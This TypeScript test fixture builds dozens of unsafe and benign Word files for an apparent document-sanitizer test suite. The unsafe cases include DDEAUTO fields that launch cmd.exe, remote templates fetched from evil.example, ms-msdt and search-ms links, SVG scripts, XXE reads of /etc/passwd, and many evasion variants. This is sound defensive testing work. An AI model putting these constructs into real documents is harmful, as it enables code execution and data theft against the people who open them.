import { gzipSync } from 'node:zlib';
import {
  contentTypes,
  createOldOfficeFile,
  docx,
  relationships,
  relationshipsNamespace,
  rootRelationships,
  wordPart,
  type ZipPart,
  zip,
} from './sampleFiles.ts';

type WordCase = [name: string, bytes: Buffer];

const documentRelationships = 'word/_rels/document.xml.rels';

function createRelationship(
  kind: string,
  target: string,
  mode = 'External',
  of = documentRelationships,
) {
  const type = `${relationshipsNamespace}/${kind}`;
  return docx([
    relationships(of, `Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}`),
  ]);
}

const createPackage = (extra: string, parts: ZipPart[]) =>
  zip([
    contentTypes(undefined, extra),
    rootRelationships(),
    wordPart('word/document.xml', '<w:body/>'),
    ...parts,
  ]);

const createWordName = (name: string) =>
  `application/vnd.openxmlformats-officedocument.wordprocessingml.${name}+xml`;
const createOverride = (part: string, type: string) =>
  `<Override PartName="${part}" ContentType="${type}"/>`;

const createRun = (inside: string) => `<w:r>${inside}</w:r>`;
const createFieldCharacter = (type: string) => createRun(`<w:fldChar w:fldCharType="${type}"/>`);
const createInstruction = (text: string) =>
  createRun(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const createField = (...runs: string[]) =>
  `<w:p>${createFieldCharacter('begin')}${runs.join('')}${createFieldCharacter('separate')}${createRun('<w:t>1</w:t>')}${createFieldCharacter('end')}</w:p>`;

const createDocument = (body: string) =>
  zip([contentTypes(), rootRelationships(), wordPart('word/document.xml', body)]);

function createPart(root: string, body: string): Buffer {
  const kinds: Record<string, string> = {
    hdr: 'header',
    ftr: 'footer',
    glossaryDocument: 'document.glossary',
  };
  const part = kinds[root] ?? root;
  return createPackage(createOverride(`/word/${root}.xml`, createWordName(part)), [
    wordPart(`word/${root}.xml`, body, root),
  ]);
}

const ddeInstruction = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
function createDrawing(inside: string, before = '', extension = 'svg'): Buffer {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
  const type = '<Default Extension="svg" ContentType="image/svg+xml"/>';
  return createPackage(type, [
    { name: `word/media/image1.${extension}`, content: `<?xml version="1.0"?>${before}${svg}` },
  ]);
}

const vbaType = 'application/vnd.ms-office.vbaProject';
const toCharacterReferences = (text: string) =>
  Array.from(text, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
const encodeUtf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

const rewritePart = (name: string, change: (text: string) => Buffer | string) => {
  const parts = [contentTypes(), rootRelationships(), wordPart('word/document.xml', '<w:body/>')];
  return zip(
    parts.map((part) =>
      part.name === name ? { ...part, content: change(String(part.content)) } : part,
    ),
  );
};

const foreignNamespace = 'xmlns:x="urn:x"';
const compatibilityNamespace =
  'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
const createSplitDde = (between: string) =>
  createDocument(
    createField(createInstruction('DD'), between, createInstruction('EAUTO cmd')).replace(
      '<w:p>',
      `<w:p ${foreignNamespace} ${compatibilityNamespace}>`,
    ),
  );
/** These dangers are in another namespace, and some versions of Word recognize them. */
const hiddenByNamespaces: WordCase[] = [
  [
    'template behind a foreign target',
    docx([
      relationships(
        documentRelationships,
        `${foreignNamespace} Type="${relationshipsNamespace}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
      ),
    ]),
  ],
  [
    'template behind a foreign kind',
    docx([
      relationships(
        documentRelationships,
        `${foreignNamespace} Type="${relationshipsNamespace}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
      ),
    ]),
  ],
  [
    'OLE behind a foreign kind',
    docx([
      relationships(
        documentRelationships,
        `${foreignNamespace} Type="${relationshipsNamespace}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
      ),
    ]),
  ],
  [
    'foreign element among the relationships',
    rewritePart('_rels/.rels', (text) =>
      text.replace('</Relationships>', `<x:Relationship ${foreignNamespace}/></Relationships>`),
    ),
  ],
  [
    'macros behind a foreign type',
    createPackage(
      `<Override ${foreignNamespace} PartName="/word/a.bin" ContentType="${vbaType}" x:ContentType="image/png"/>`,
      [{ name: 'word/a.bin', content: 'x' }],
    ),
  ],
  [
    'macros behind a second type',
    createPackage(
      createOverride('/word/a.bin', vbaType) + createOverride('/word/a.bin', 'image/png'),
      [{ name: 'word/a.bin', content: 'x' }],
    ),
  ],
  [
    'DDE behind a foreign instruction',
    createDocument(
      `<w:p ${foreignNamespace}><w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE"/></w:p>`,
    ),
  ],
  [
    'DDE before a foreign instruction',
    createDocument(
      `<w:p ${foreignNamespace}><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>`,
    ),
  ],
  [
    'picture of a shape behind a foreign one',
    createDocument(
      `<w:p ${foreignNamespace}><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a" x:src="cid:a"/></w:p>`,
    ),
  ],
  [
    'DDE cut by a foreign run',
    createSplitDde('<x:r><w:r><w:instrText>ZZ</w:instrText></w:r></x:r>'),
  ],
  ['DDE cut by foreign text', createSplitDde(createRun('<x:instrText>ZZ</x:instrText>'))],
  ['DDE cut by a foreign end', createSplitDde(createRun('<x:fldChar x:fldCharType="end"/>'))],
  ['DDE cut by a foreign type', createSplitDde(createRun('<w:fldChar fldCharType="begin"/>'))],
  [
    'DDE cut by another way to show it',
    createSplitDde(
      `<mc:AlternateContent><mc:Choice Requires="w"><w:r/></mc:Choice><mc:Fallback>${createInstruction('ZZ')}</mc:Fallback></mc:AlternateContent>`,
    ),
  ],
  [
    'DDE cut by a way that nobody knows',
    createSplitDde(
      `<mc:AlternateContent><mc:Choice Requires="x">${createInstruction('ZZ')}</mc:Choice></mc:AlternateContent>`,
    ),
  ],
  [
    'DDE cut by another field left out',
    createSplitDde(`<x:r>${createFieldCharacter('end')}${createFieldCharacter('begin')}</x:r>`),
  ],
  [
    'DDE cut by deleted text',
    createSplitDde(`<w:del w:id="1">${createRun('<w:delInstrText>ZZ</w:delInstrText>')}</w:del>`),
  ],
  [
    'DDE cut by a deleted run',
    createSplitDde(`<w:del w:id="1">${createInstruction('ZZ')}</w:del>`),
  ],
  [
    'DDE partly of ordinary text',
    createDocument(createField(createRun('<w:t>DDE</w:t>'), createInstruction('AUTO cmd /c calc'))),
  ],
  [
    'DDE around an element',
    createDocument(
      createField(createRun(`<w:instrText>DD<x:foo ${foreignNamespace}/>EAUTO cmd</w:instrText>`)),
    ),
  ],
  [
    'DDE by a simple QUOTE',
    createDocument(
      createField(
        '<w:fldSimple w:instr="QUOTE 68 68 69"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>',
        createInstruction(' cmd /c calc'),
      ),
    ),
  ],
];

export const unsafeWord: WordCase[] = [
  ...hiddenByNamespaces,
  ['template by http', createRelationship('attachedTemplate', 'http://evil.example/t.dotm')],
  ['template by HTTPS', createRelationship('attachedTemplate', 'HTTPS://evil.example/t.dotm')],
  [
    'template on a share',
    createRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotm'),
  ],
  [
    'template on a share, slashes',
    createRelationship('attachedTemplate', '//evil.example/share/t.dotm'),
  ],
  ['template on a share, mixed', createRelationship('attachedTemplate', '/\\evil.example/t.dotm')],
  ['template by file host', createRelationship('attachedTemplate', 'file://evil.example/t.dotm')],
  [
    'template by four slashes',
    createRelationship('attachedTemplate', 'file:////evil.example/t.dotm'),
  ],
  [
    'template by file and backslashes',
    createRelationship('attachedTemplate', 'file:\\\\evil.example\\t.dotm'),
  ],
  [
    'template by percent signs',
    createRelationship('attachedTemplate', '%68ttp://evil.example/t.dotm'),
  ],
  [
    'template after blanks',
    createRelationship('attachedTemplate', '  \thttp://evil.example/t.dotm'),
  ],
  [
    'template by references',
    createRelationship('attachedTemplate', toCharacterReferences('http://evil.example/t')),
  ],
  [
    'template without a mode',
    createRelationship('attachedTemplate', 'http://evil.example/t.dotm', ''),
  ],
  [
    'template with a small mode',
    createRelationship('attachedTemplate', 'http://evil.example', 'external'),
  ],
  [
    'template of the settings',
    createRelationship(
      'attachedTemplate',
      'http://evil.example',
      'External',
      'word/_rels/settings.xml.rels',
    ),
  ],
  ['OLE by http', createRelationship('oleObject', 'http://evil.example/a.hta')],
  [
    'OLE by mhtml',
    createRelationship('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example'),
  ],
  ['OLE by ms-msdt', createRelationship('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
  ['search-ms', createRelationship('hyperlink', 'search-ms:query=a')],
  ['link to a share', createRelationship('hyperlink', '\\\\evil.example\\share')],
  ...[
    'javascript:alert(1)',
    'VBScript:a',
    'data:text/html,a',
    'java&#10;script:a',
    'ms-word:ofe|u|http://evil.example/a',
    'search:query=a',
    'mhtml:http://evil.example/a',
    'mk:@MSITStore:a.chm',
    'its:a.chm',
    'ldap://evil.example/a',
    'shell:startup',
    'file:///C:/Windows/System32/calc.exe',
    'C:\\Windows\\System32\\calc.exe',
  ].map((target): WordCase => [`link to ${target}`, createRelationship('hyperlink', target)]),
  ['frame', createRelationship('frame', 'http://evil.example/a.htm')],
  ['subdocument', createRelationship('subDocument', 'file://evil.example/a.docx')],
  ['linked picture', createRelationship('image', 'http://evil.example/a.png')],
  ['linked picture on a share', createRelationship('image', 'file://evil.example/a.png')],
  ['linked picture of the machine', createRelationship('image', 'file:///etc/passwd')],
  ...(
    [
      ['a picture of the machine', '<image xlink:href="file:///etc/passwd"/>'],
      ['a picture at an address', '<image href="https://evil.example/a.png"/>'],
      ['a piece of another drawing', '<use xlink:href="other.svg#a"/>'],
      ['a script', '<script>alert(1)</script>'],
      ['a page', '<foreignObject><p/></foreignObject>'],
      ['a handler', '<g onload="alert(1)"/>'],
      ['a filling from elsewhere', '<path fill="url(https://evil.example/a#b)"/>'],
      ['a style from elsewhere', '<style>@im<!-- -->port "https://evil.example/a.css";</style>'],
      ['a style in other letters', '<style>a{fill:u\\72l(https://evil.example/a)}</style>'],
    ] as const
  ).map(([what, drawn]): WordCase => [`drawing with ${what}`, createDrawing(drawn)]),
  [
    'drawing with a document type',
    createDrawing('', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
  ],
  [
    'drawing with a style sheet',
    createDrawing('', '<?xml-stylesheet href="https://evil.example/a.css"?>'),
  ],
  ['drawing that is called a PNG', createDrawing('<image href="file:///etc/passwd"/>', '', 'png')],
  [
    'text of another file',
    createDocument(createField(createInstruction('INCLUDETEXT "C:\\\\a.docx"'))),
  ],
  [
    'shape of the machine',
    createDocument(
      '<w:p><w:pict><v:fill xmlns:v="urn:schemas-microsoft-com:vml" src="C:\\a.png"/></w:pict></w:p>',
    ),
  ],
  ['source of a mail merge', createRelationship('mailMergeSource', 'file:///C:/list.xlsx')],
  ['unknown kind outside', createRelationship('somethingNew', 'http://evil.example/')],
  ['chunk of a page', createRelationship('aFChunk', 'a.mht', '')],
  ['control', createRelationship('control', 'activeX/activeX1.xml', '')],
  ['embedded package', createRelationship('package', 'embeddings/a.docx', '')],
  [
    'OLE of the strict kind',
    docx([
      relationships(
        documentRelationships,
        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject" Target="embeddings/oleObject1.bin"',
      ),
    ]),
  ],
  [
    'embedded part',
    createPackage(
      createOverride(
        '/word/embeddings/a.bin',
        'application/vnd.openxmlformats-officedocument.oleObject',
      ),
      [{ name: 'word/embeddings/a.bin', content: 'x' }],
    ),
  ],
  [
    'macros by references',
    createPackage(
      `<Override PartName="/word/a.bin" ContentType="${toCharacterReferences(vbaType)}"/>`,
      [{ name: 'word/a.bin', content: 'x' }],
    ),
  ],
  [
    'macros in capitals',
    createPackage(createOverride('/word/a.bin', vbaType.toUpperCase()), [
      { name: 'word/a.bin', content: 'x' },
    ]),
  ],
  ['macros by name', docx([{ name: 'word/vba%50roject.bin', content: 'x' }])],
  ['macros by relationship', createRelationship('vbaProject', 'a.bin', '')],
  [
    'ActiveX part',
    createPackage(createOverride('/word/a.xml', 'application/vnd.ms-office.activeX+xml'), [
      { name: 'word/a.xml', content: '<a/>' },
    ]),
  ],
  ['program without a type', docx([{ name: 'word/a', content: 'MZ\x90' }])],
  [
    'page as a part',
    createPackage(createOverride('/word/a.htm', 'text/html'), [
      { name: 'word/a.htm', content: '<html/>' },
    ]),
  ],
  ['DDE', createDocument(createField(createInstruction(ddeInstruction)))],
  [
    'DDE in small letters',
    createDocument(createField(createInstruction(ddeInstruction.toLowerCase()))),
  ],
  [
    'DDE cut into runs',
    createDocument(
      createField(
        ...Array.from('DDEAUTO', (sign) => createInstruction(sign)),
        createInstruction(' cmd'),
      ),
    ),
  ],
  [
    'DDE in a simple field',
    createDocument(
      `<w:p><w:fldSimple w:instr=" ${ddeInstruction.replaceAll('"', '&quot;')} "/></w:p>`,
    ),
  ],
  [
    'DDE by references',
    createDocument(createField(createInstruction(toCharacterReferences('DDEAUTO cmd')))),
  ],
  [
    'DDE by QUOTE',
    createDocument(
      createField(
        `${createFieldCharacter('begin')}${createInstruction('QUOTE 68 68 69 65 85 84 79')}${createFieldCharacter('separate')}${createRun('<w:t>DDEAUTO</w:t>')}${createFieldCharacter('end')}`,
        createInstruction(' cmd /c calc'),
      ),
    ),
  ],
  [
    'DDE inside another field',
    createDocument(
      createField(
        createInstruction('IF 1 = 1 "'),
        createFieldCharacter('begin'),
        createInstruction(ddeInstruction),
        createFieldCharacter('end'),
        createInstruction('"'),
      ),
    ),
  ],
  [
    'DDE that never ends',
    createDocument(
      `<w:p>${createFieldCharacter('begin')}${createInstruction(ddeInstruction)}</w:p>`,
    ),
  ],
  [
    'DDE with another prefix',
    zip([
      contentTypes(),
      rootRelationships(),
      {
        name: 'word/document.xml',
        content:
          '<d xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE a b"/></d>',
      },
    ]),
  ],
  ...['hdr', 'ftr', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map(
    (part): WordCase => [
      `DDE in ${part}`,
      createPart(part, createField(createInstruction(ddeInstruction))),
    ],
  ),
  [
    'picture field',
    createDocument(
      createField(createInstruction('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
    ),
  ],
  [
    'text field on a share',
    createDocument(createField(createInstruction('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"'))),
  ],
  [
    'link field',
    createDocument(
      createField(createInstruction('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" a')),
    ),
  ],
  [
    'database field',
    createDocument(createField(createInstruction('DATABASE \\d "C:\\\\a.mdb" \\c "x"'))),
  ],
  [
    'link field to a share',
    createDocument(createField(createInstruction('HYPERLINK "file://evil.example/a"'))),
  ],
  [
    'query of a mail merge',
    createPackage(createOverride('/word/settings.xml', createWordName('settings')), [
      wordPart(
        'word/settings.xml',
        '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>',
        'settings',
      ),
    ]),
  ],
  [
    'picture of a shape',
    createDocument(
      '<w:p><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\evil.example\\a.png"/></v:shape></w:pict></w:p>',
    ),
  ],
  [
    'document type',
    rewritePart('word/document.xml', (text) =>
      text.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>'),
    ),
  ],
  [
    'entity',
    rewritePart('word/document.xml', (text) =>
      text.replace('<w:body/>', '<w:body>&evil;</w:body>'),
    ),
  ],
  [
    'document type of the types',
    rewritePart('[Content_Types].xml', (text) =>
      text.replace('?>', '?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'),
    ),
  ],
  ['UTF-7', rewritePart('word/document.xml', (text) => text.replace('UTF-8', 'UTF-7'))],
  ['deep', createDocument('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))],
  ['two parts of one name', docx([wordPart('word/document.xml', '<w:body/>')])],
  ['two parts of one name but for case', docx([wordPart('word/DOCUMENT.XML', '<w:body/>')])],
  [
    'two parts of one name but for a backslash',
    docx([wordPart('word\\document.xml', '<w:body/>')]),
  ],
  [
    'DDE in UTF-16',
    zip([
      contentTypes(),
      rootRelationships(),
      {
        name: 'word/document.xml',
        content: encodeUtf16(
          `<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="x">${createField(createInstruction(ddeInstruction))}</w:document>`,
        ),
      },
    ]),
  ],
  [
    'template in UTF-16',
    docx([
      {
        name: documentRelationships,
        content: encodeUtf16(
          `<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="a" Type="${relationshipsNamespace}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
        ),
      },
    ]),
  ],
];

const oldWord = { '/WordDocument': 'text'.repeat(2_000) };
export const unsafeOldWord: WordCase[] = [
  ['storage MACROS', createOldOfficeFile({ ...oldWord, '/MACROS/VBA/dir': 'code' })],
  [
    'storage _vba_project_cur',
    createOldOfficeFile({ ...oldWord, '/_vba_project_cur/VBA/dir': 'code' }),
  ],
  [
    'macros deep inside',
    createOldOfficeFile({ ...oldWord, '/ObjectPool/a/macros/VBA/dir': 'code' }),
  ],
  ['package', createOldOfficeFile({ ...oldWord, '/ObjectPool/a/\u0001Ole10Native': 'MZ' })],
  [
    'embedded object',
    createOldOfficeFile({ ...oldWord, '/ObjectPool/_1234567890/\u0003ObjInfo': 'x' }),
  ],
  ['equation', createOldOfficeFile({ ...oldWord, '/a/Equation Native': 'x' })],
  [
    'DDE field',
    createOldOfficeFile({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` }),
  ],
];

export const ordinaryWord: WordCase[] = [
  [
    'template of the machine',
    createRelationship('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
  ],
  ['template by name', createRelationship('attachedTemplate', 'Normal.dotm')],
  ['template of a Mac', createRelationship('attachedTemplate', '/Users/a/Library/Normal.dotm')],
  [
    'template on localhost',
    createRelationship('attachedTemplate', 'file://localhost/Users/a/Normal.dotm'),
  ],
  ['link', createRelationship('hyperlink', 'https://www.canada.ca/a?b=c&amp;d=%20e')],
  ['link to write', createRelationship('hyperlink', 'mailto:a@example.ca?subject=A: b')],
  ['link to a file', createRelationship('hyperlink', 'file:///C:/Users/a/b.docx')],
  ['link without a scheme', createRelationship('hyperlink', 'www.example.ca')],
  ...[
    'x-apple-data-detectors://0',
    'blocked::mailto:a@example.ca',
    'sip:a@example.ca',
    'sms:+17055550000',
    'www.town.ca:8080/a',
    'www.example.com',
    '../../Documents and Settings/a.docx',
    'webcal://example.ca/a.ics',
  ].map((target): WordCase => [`link to ${target}`, createRelationship('hyperlink', target)]),
  ...['wmz', 'emz'].map(
    (kind): WordCase => [
      `picture .${kind}`,
      createPackage(`<Default Extension="${kind}" ContentType="image/x-${kind}"/>`, [
        { name: `word/media/image1.${kind}`, content: gzipSync('a picture') },
        relationships(
          documentRelationships,
          `Type="${relationshipsNamespace}/image" Target="media/image1.${kind}"`,
        ),
      ]),
    ],
  ),
  [
    'icon as Word writes it',
    createDrawing(
      '<defs><clipPath id="clip0"><rect width="96" height="96"/></clipPath></defs><style>.a{fill:url("#b")}</style><g clip-path="url(#clip0)" id="Icons_User"><use xlink:href="#b"/><image href="data:image/png;base64,iVBORw0KGgo="/><path d="M1 2" class="MsftOfcThm_Accent1_Fill" fill="#4472C4"/></g>',
    ),
  ],
  ['linked picture of a mail', createRelationship('image', 'cid:image001.png@01D9')],
  [
    'fields',
    createDocument(
      [
        'PAGE \\* MERGEFORMAT',
        'TOC \\o "1-3" \\h \\z \\u',
        'HYPERLINK "https://example.ca" \\o "A tip: here"',
        'HYPERLINK \\l "_Toc1"',
        'ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/a"]}',
        'MACROBUTTON NoMacro [Click here]',
        'INCLUDEPICTURE "C:\\\\a.png" \\d',
        'DATE \\@ "d MMMM yyyy"',
        'FORMTEXT',
      ]
        .map((text) => createField(createInstruction(text.replaceAll('"', '&quot;'))))
        .join(''),
    ),
  ],
  [
    'fields in text boxes, changes that are kept, and two ways to show them',
    createDocument(
      `<w:p ${foreignNamespace} ${compatibilityNamespace} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:xlink="http://www.w3.org/1999/xlink">${createField(
        createInstruction('HYPERLINK "https://example.ca"'),
        `<w:del w:id="1">${createRun('<w:delInstrText> \\o "old"</w:delInstrText>')}</w:del>`,
        createFieldCharacter('separate'),
        ...['Choice Requires="x"', 'Fallback'].map((way, index) =>
          [
            index === 0 ? '<mc:AlternateContent>' : '',
            `<mc:${way}><v:shape href="#a" xlink:href="https://example.ca" x:id="1" w:id="2">`,
            `<w:txbxContent>${createField(createInstruction('PAGE'))}</w:txbxContent>`,
            `</v:shape></mc:${way.split(' ')[0]}>`,
            index === 1 ? '</mc:AlternateContent>' : '',
          ].join(''),
        ),
      )}</w:p>`,
    ),
  ],
  [
    'words about DDE',
    createDocument('<w:p><w:r><w:t>DDEAUTO is added &amp; hidden</w:t></w:r></w:p>'),
  ],
  [
    'UTF-16',
    rewritePart('word/document.xml', (text) => encodeUtf16(text.replace('UTF-8', 'UTF-16'))),
  ],
  ['a mark before UTF-8', rewritePart('word/document.xml', (text) => `\ufeff${text}`)],
  [
    'strict',
    zip([
      contentTypes(),
      relationships(
        '_rels/.rels',
        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="/word/document.xml"',
      ),
      {
        name: 'word/document.xml',
        content: '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
      },
    ]),
  ],
  [
    'chart with its figures',
    createPackage(
      createOverride(
        '/word/charts/chart1.xml',
        'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
      ) +
        createOverride(
          '/word/embeddings/a.xlsx',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        ),
      [
        { name: 'word/charts/chart1.xml', content: '<c/>' },
        {
          name: 'word/embeddings/a.xlsx',
          content: zip([{ name: 'xl/workbook.xml', content: '<a/>' }]),
        },
        relationships(
          'word/charts/_rels/chart1.xml.rels',
          `Type="${relationshipsNamespace}/package" Target="../embeddings/a.xlsx"`,
        ),
      ],
    ),
  ],
];
